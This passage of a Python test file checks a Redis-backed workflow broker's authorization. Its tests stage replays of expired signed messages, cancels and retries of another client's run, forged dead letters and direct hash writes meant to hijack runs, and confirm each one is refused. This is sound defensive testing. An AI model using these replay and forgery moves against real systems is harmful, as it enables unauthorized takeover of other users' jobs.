        until(lambda: old in {row["id"] for row in client.list()}, fleet.procs)  # the coordinators write it
        status = client.wait(old, timeout=60)
    assert status["state"] == "failed" and status["error"].startswith("refused: submitted "), status["error"]
    assert "longer than runs are kept" in status["error"] and not fleet.ran(old)
    assert len(fleet.dead_letters()) == seen
    record("a copy of a run's submit", "approver", "changed nothing (started once)", "changed nothing: it exists")
    record("an expired run written again from its copy", "client", "worked: it ran again", "refused: NOPERM")
    record("an expired run asked for again from its copy", "client", "(new path)", "refused at start")


def test_an_expired_cancel_is_refused(fleet: Fleet) -> None:
    """What the client signed eleven minutes ago, kept and added again: past its expiry."""
    seen = len(fleet.dead_letters())
    wf_id = held(fleet)
    secret = fleet.deployment.env("client")["PHIBROKER_CLIENT_SECRET"].encode()
    body = {"wf": wf_id, "reason": "kept for later", "expires": time.time() - 60}
    add_again(fleet, wire.Inbox(kind="cancel", body=body, agent="client").encode(1 << 20, secret))
    (reason,) = reasons_since(fleet, seen, 1)
    assert reason.startswith(f"expired cancel of run {wf_id!r} from 'client': ") and "past its expiry" in reason
    finish(fleet, wf_id)
    record("a cancel signed 11 minutes ago", "approver", "worked: cancelled", "refused: expired")


def test_a_client_cannot_cancel_or_retry_another_clients_run(fleet: Fleet) -> None:
    """starter (an agent whose reactions submit runs: a client too) aims at the client's run with its own
    user; the client, and then the admin, may."""
    seen = len(fleet.dead_letters())
    wf_id = held(fleet)
    starter = fleet.store("starter", signed=True)
    starter.send_to_coordinators(wire.Inbox(kind="cancel", body={"wf": wf_id, "reason": "not yours"}))
    who = "only its submitter ('client'), a coordinator or an admin may"
    refusal = f"refused cancel of run {wf_id!r} from 'starter': {who}"
    assert reasons_since(fleet, seen, 1) == [refusal]
    secret = fleet.deployment.env("starter")["PHIBROKER_AGENT_SECRET"]
    as_starter_cli = {"PHIBROKER_CLIENT_NAME": "starter", "PHIBROKER_CLIENT_SECRET": secret}
    refused_cli = fleet.deployment.cli(fleet.procs, "client", "cancel", wf_id, **as_starter_cli)
    assert refused_cli.returncode == 2 and refused_cli.stdout == "", (refused_cli.stdout, refused_cli.stderr)
    assert f"cancel of {wf_id} refused: {refusal}" in refused_cli.stderr
    as_watch = fleet.deployment.cli(fleet.procs, "watch", "cancel", wf_id)  # a user Redis refuses: one line, exit 3
    assert as_watch.returncode == 3 and as_watch.stderr.count("\n") == 1, as_watch.stderr
    assert "refuses this user a command" in as_watch.stderr
    assert fleet.unit(wf_id, "Gate", "state") == "running"
    with fleet.client("client") as client:
        assert client.cancel(wf_id, reason="mine", wait=30)
        assert client.wait(wf_id, timeout=30)["state"] == "cancelled"
    as_starter = fleet.settings("client").model_copy(
        update={"client_name": "starter", "client_secret": fleet.deployment.env("starter")["PHIBROKER_AGENT_SECRET"]}
    )
    with Client(as_starter) as other, pytest.raises(InvalidInput) as refused:  # starter's identity, as the CLI uses it
        other.retry(wf_id)
    assert str(refused.value) == f"retry of {wf_id} refused: " + refusal.replace("cancel", "retry", 1)
    with fleet.client("admin") as admin:
        assert admin.retry(wf_id)["state"] == "running"  # an admin may retry anyone's run
    finish(fleet, wf_id)
    assert len(reasons_since(fleet, seen, 3)) == 3
    record("another client's cancel or retry", "starter", "worked: cancelled, re-opened", "refused: not its run")
    record("another client's cancel, from the CLI", "starter", "exit 0 (refused in the DLQ)", "exit 2, saying why")


def test_a_dead_letter_an_agent_sends_tells_no_client_that_its_request_was_refused(fleet: Fleet) -> None:
    """A client that waits on its request (a submit, a cancel, a retry) looks for its inbox entry among
    the dead letters. webc sends one naming the client's lane and an entry id of its guessing, with
    a reason of its own: the client does not take it for the coordinators' refusal."""
    seen = len(fleet.dead_letters())
    wf_id = held(fleet)
    lane = fleet.deployment.keys.inbox(wf_id)
    fleet.store("webc", signed=True).dead_letter("refused: forged by webc", b"", lane, "1-0")
    (reason,) = reasons_since(fleet, seen, 1)
    assert reason == "refused: forged by webc"
    with fleet.client("client") as client:
        assert client._refusal(wf_id, "1-0") is None  # what `submit`, `cancel` and `retry` ask
    finish(fleet, wf_id)
    record("a dead letter naming a client's request", "webc", "the client was told it was refused", "not taken")


def test_a_clients_user_writes_no_run_so_it_takes_over_or_ends_none(fleet: Fleet) -> None:
    """The client's user wrote its runs itself, so it could write any run's meta hash: it made the admin's
    run its own (`submitter`), then cancelled it; or ended, held or refused it by writing its `state`,
    `budget_request` or `launched`. The coordinators write the runs clients ask for now: the client's
    user writes no run, new or not, and the run goes on as signed."""
    keys = fleet.deployment.keys
    with fleet.client("admin") as admin:
        wf_id = admin.submit(fleet.files["team"])
    until(lambda: fleet.unit(wf_id, "Scan", "state") == "running", fleet.procs)
    raw = fleet.deployment.client("client")
    meta = keys.wf(wf_id)
    refused_all(
        {
            "HSET submitter": lambda: raw.hset(meta, mapping={"submitter": "client", "version": 99}),
            "HSET state": lambda: raw.hset(meta, mapping={"state": "succeeded", "version": 99}),
            "HSET budget_request": lambda: raw.hset(meta, mapping={"budget_request": "r1", "version": 99}),
            "HSET launched": lambda: raw.hset(meta, mapping={"launched": 0, "submit_sig": "", "version": 99}),
            "HSETNX a new run": lambda: raw.hsetnx(keys.wf("planted"), "spec", "{}"),
            "EVALSHA CREATE": lambda: raw.evalsha(sha(scripts.CREATE), 1, keys.wf("planted"), "state", "running"),
            "ZADD running": lambda: raw.zadd(keys.running, {"planted": 1}),
        },
        "client",
    )
    with fleet.client("client") as client, pytest.raises(InvalidInput, match="only its submitter"):
        client.cancel(wf_id, reason="hijacked", wait=30)
    untouched(fleet, wf_id)
    for what in ("HSET submitter, then cancel", "HSET state, budget_request or launched"):
        record(f"{what} of the admin's run", "client", "worked: cancelled, ended, held or refused", "refused: NOPERM")
